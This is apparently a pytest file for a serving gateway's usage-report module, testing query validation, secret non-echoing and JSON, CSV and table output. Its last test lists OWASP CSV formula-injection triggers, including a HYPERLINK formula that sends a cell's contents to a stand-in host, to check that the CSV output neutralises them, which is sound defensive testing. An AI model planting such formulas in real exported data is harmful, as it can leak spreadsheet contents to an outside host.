"""The report: its query's checks (each naming its parameter), the one JSON shape, and that
JSON as CSV and as a table."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from serving.gateway.usage_ledger import report as report_module
from serving.gateway.usage_ledger.report import (
    MAX_DAYS,
    ReportQuery,
    ReportQueryError,
    build_report,
    render,
    report_query,
)
from serving.gateway.usage_ledger.tally import UsageRow

QUERY = ReportQuery("2026-03-01", "2026-03-31")
ROWS = [
    UsageRow("2026-03-02", "key_5e01c9a7", "qwen3-tiny", 100, 40, 60, 30),
    UsageRow("2026-03-01", "key_5e01c9a7", "team-a-lora", 20, 8),
    UsageRow("2026-03-01", "dev", "qwen3-tiny", 3, 1),
    UsageRow("2026-03-01", "key_5e01c9a7", "qwen3-tiny", 7, 2, 7, 0),
]
NO_BATCH = {"prompt_tokens": 0, "completion_tokens": 0, "total_tokens": 0}
NAMES = {"key_5e01c9a7": "team-a"}


def test_the_query_is_two_utc_days_and_maybe_a_key() -> None:
    assert report_query("2026-03-01", "2026-03-31", None) == QUERY
    assert report_query("2026-03-01", "2026-03-01", "key_5e01c9a7").key_id == "key_5e01c9a7"
    assert report_query("2026-03-01", "2026-03-01", "dev-2").key_id == "dev-2"


def test_without_days_the_query_is_the_current_utc_month_so_far(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(report_module, "utc_today", lambda: date(2026, 3, 17))
    assert report_query(None, None, None) == ReportQuery("2026-03-01", "2026-03-17")
    assert report_query("2026-01-15", None, None) == ReportQuery("2026-01-15", "2026-03-17")
    # `to` alone: its own month up to that day, not this month (which it may be before).
    assert report_query(None, "2026-02-10", None) == ReportQuery("2026-02-01", "2026-02-10")
    assert report_query(None, "2026-03-01", "dev") == ReportQuery("2026-03-01", "2026-03-01", "dev")
    with pytest.raises(ReportQueryError) as raised:
        report_query("2026-03-18", None, None)  # `to` defaulted: the fault is `from`'s
    assert raised.value.param == "from"
    assert str(raised.value) == "2026-03-18 is after today (2026-03-17)"


@pytest.mark.parametrize(
    ("first", "last", "key", "param", "message"),
    [
        ("", "2026-03-01", None, "from", "'' is not a day (YYYY-MM-DD)"),
        ("2026-03-01", "", None, "to", "'' is not a day (YYYY-MM-DD)"),
        ("2026-3-1", "2026-03-01", None, "from", "'2026-3-1' is not a day (YYYY-MM-DD)"),
        ("2026-03-01", "2026-02-30", None, "to", "'2026-02-30' is not a day"),
        ("2026-03-01", "yesterday", None, "to", "'yesterday' is not a day"),
        ("2026-03-02", "2026-03-01", None, "to", "2026-03-01 is before the first day"),
        ("2000-01-01", "2026-03-01", None, "to", f"at most {MAX_DAYS} days"),
        ("2000-01-01", None, None, "from", f"at most {MAX_DAYS} days"),
        ("2026-03-01", "2026-03-01", "team-a", "key", "is not a key id"),
    ],
)
def test_a_bad_query_names_its_parameter(
    first: str | None, last: str | None, key: str | None, param: str, message: str
) -> None:
    with pytest.raises(ReportQueryError) as raised:
        report_query(first, last, key)
    assert raised.value.param == param
    assert message in str(raised.value)


def test_a_secret_given_as_the_key_is_refused_and_not_echoed() -> None:
    secret = "sk-5e01c9a7-" + "A" * 40
    with pytest.raises(ReportQueryError) as raised:
        report_query("2026-03-01", "2026-03-01", secret)
    assert raised.value.param == "key" and "AAAA" not in str(raised.value)


def test_the_json_has_rows_totals_per_key_and_model_and_a_total() -> None:
    """Every count comes with the part of it that Batch API lines used."""
    report = build_report(QUERY, ROWS, NAMES.get)
    assert report == {
        "object": "usage_report",
        "from": "2026-03-01",
        "to": "2026-03-31",
        "key_id": None,
        "rows": [
            {"day": "2026-03-01", "key_id": "dev", "key_name": None, "model": "qwen3-tiny",
             "prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4,
             "batch": NO_BATCH},
            {"day": "2026-03-01", "key_id": "key_5e01c9a7", "key_name": "team-a",
             "model": "qwen3-tiny", "prompt_tokens": 7, "completion_tokens": 2,
             "total_tokens": 9,
             "batch": {"prompt_tokens": 7, "completion_tokens": 0, "total_tokens": 7}},
            {"day": "2026-03-01", "key_id": "key_5e01c9a7", "key_name": "team-a",
             "model": "team-a-lora", "prompt_tokens": 20, "completion_tokens": 8,
             "total_tokens": 28, "batch": NO_BATCH},
            {"day": "2026-03-02", "key_id": "key_5e01c9a7", "key_name": "team-a",
             "model": "qwen3-tiny", "prompt_tokens": 100, "completion_tokens": 40,
             "total_tokens": 140,
             "batch": {"prompt_tokens": 60, "completion_tokens": 30, "total_tokens": 90}},
        ],
        "keys": [
            {"key_id": "dev", "key_name": None, "prompt_tokens": 3, "completion_tokens": 1,
             "total_tokens": 4, "batch": NO_BATCH, "models": [
                 {"model": "qwen3-tiny", "prompt_tokens": 3, "completion_tokens": 1,
                  "total_tokens": 4, "batch": NO_BATCH}]},
            {"key_id": "key_5e01c9a7", "key_name": "team-a", "prompt_tokens": 127,
             "completion_tokens": 50, "total_tokens": 177,
             "batch": {"prompt_tokens": 67, "completion_tokens": 30, "total_tokens": 97},
             "models": [
                 {"model": "qwen3-tiny", "prompt_tokens": 107, "completion_tokens": 42,
                  "total_tokens": 149,
                  "batch": {"prompt_tokens": 67, "completion_tokens": 30, "total_tokens": 97}},
                 {"model": "team-a-lora", "prompt_tokens": 20, "completion_tokens": 8,
                  "total_tokens": 28, "batch": NO_BATCH}]},
        ],
        "total": {"prompt_tokens": 130, "completion_tokens": 51, "total_tokens": 181,
                  "batch": {"prompt_tokens": 67, "completion_tokens": 30, "total_tokens": 97}},
    }  # fmt: skip
    assert json.loads(render(report, "json")) == report


def test_names_are_looked_up_once_per_key() -> None:
    asked: list[str] = []

    def name_of(key_id: str) -> str | None:
        asked.append(key_id)
        return NAMES.get(key_id)

    build_report(QUERY, ROWS, name_of)
    assert sorted(asked) == ["dev", "key_5e01c9a7"]


def test_csv_is_the_rows_with_a_header() -> None:
    text = render(build_report(QUERY, ROWS, NAMES.get), "csv")
    assert text.splitlines() == [  # text quoted, numbers bare
        '"day","key_id","key_name","model","prompt_tokens","completion_tokens","total_tokens",'
        '"batch_prompt_tokens","batch_completion_tokens","batch_total_tokens"',
        '"2026-03-01","dev","","qwen3-tiny",3,1,4,0,0,0',
        '"2026-03-01","key_5e01c9a7","team-a","qwen3-tiny",7,2,9,7,0,7',
        '"2026-03-01","key_5e01c9a7","team-a","team-a-lora",20,8,28,0,0,0',
        '"2026-03-02","key_5e01c9a7","team-a","qwen3-tiny",100,40,140,60,30,90',
    ]
    assert len(list(csv.DictReader(io.StringIO(text)))) == 4


def test_the_table_has_the_rows_then_totals_per_key_and_in_all() -> None:
    text = render(build_report(QUERY, ROWS, NAMES.get), "table")
    assert text == (
        "usage from 2026-03-01 to 2026-03-31 (UTC), all keys\n"
        "\n"
        "DAY         KEY_ID        NAME    MODEL        PROMPT  COMPLETION  TOTAL  BATCH\n"
        "2026-03-01  dev           -       qwen3-tiny        3           1      4      0\n"
        "2026-03-01  key_5e01c9a7  team-a  qwen3-tiny        7           2      9      7\n"
        "2026-03-01  key_5e01c9a7  team-a  team-a-lora      20           8     28      0\n"
        "2026-03-02  key_5e01c9a7  team-a  qwen3-tiny      100          40    140     90\n"
        "\n"
        "KEY_ID        NAME    PROMPT  COMPLETION  TOTAL  BATCH\n"
        "dev           -            3           1      4      0\n"
        "key_5e01c9a7  team-a     127          50    177     97\n"
        "all                      130          51    181     97\n"
    )
    empty = build_report(ReportQuery("2026-03-01", "2026-03-01", "dev"), [], NAMES.get)
    assert render(empty, "table") == "usage from 2026-03-01 to 2026-03-01 (UTC), key dev: none\n"
    assert render(empty, "csv").count("\n") == 1
    with pytest.raises(ValueError, match="not a report format"):
        render(empty, "xml")


# OWASP's formula triggers, each leading one text cell of its own.
FORMULAS = ['=HYPERLINK("http://x/?"&A1,"t")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula() -> None:
    """Every text cell (key id, name, model) that a spreadsheet would read as a formula gets
    a leading `'`, every text cell is quoted (a `;` or CR inside starts no cell), and the
    token counts stay bare numbers, a negative one included."""
    rows = [UsageRow("2026-03-01", f"key_{n:08x}", "qwen3-tiny", n, 1) for n in range(6)]
    rows += [
        UsageRow("2026-03-02", "=1+1", "-lora", -5, 2),  # ids and models a store might hold
        UsageRow("2026-03-02", "key_0000000a", "x\r=1+1", 3, -4),
        UsageRow("2026-03-02", "key_0000000b", "@model", 1, 1),
    ]
    names = {f"key_{n:08x}": formula for n, formula in enumerate(FORMULAS)}
    names["key_0000000a"] = "team;=1+1"
    text = render(build_report(QUERY, rows, names.get), "csv")
    cells = list(csv.reader(io.StringIO(text)))[1:]
    assert [row[2] for row in cells[:6]] == [f"'{formula}" for formula in FORMULAS]
    lines = text.splitlines()
    assert lines[1] == '"2026-03-01","key_00000000","\'=HYPERLINK(""http://x/?""&A1,""t"")",' + (
        '"qwen3-tiny",0,1,1,0,0,0'
    )
    assert cells[6] == ["2026-03-02", "'=1+1", "", "'-lora", "-5", "2", "-3", "0", "0", "0"]
    assert cells[7][:7] == ["2026-03-02", "key_0000000a", "team;=1+1", "x\r=1+1", "3", "-4", "-1"]
    assert '"team;=1+1","x\r=1+1",3,-4,-1,0,0,0' in text
    assert cells[8][:7] == ["2026-03-02", "key_0000000b", "", "'@model", "1", "1", "2"]
    # Only the CSV: the JSON stays the data as recorded, the table what a terminal shows.
    document = build_report(QUERY, rows, names.get)
    assert json.loads(render(document, "json"))["rows"][0]["key_name"] == FORMULAS[0]
    assert f" {FORMULAS[0]} " in render(document, "table")
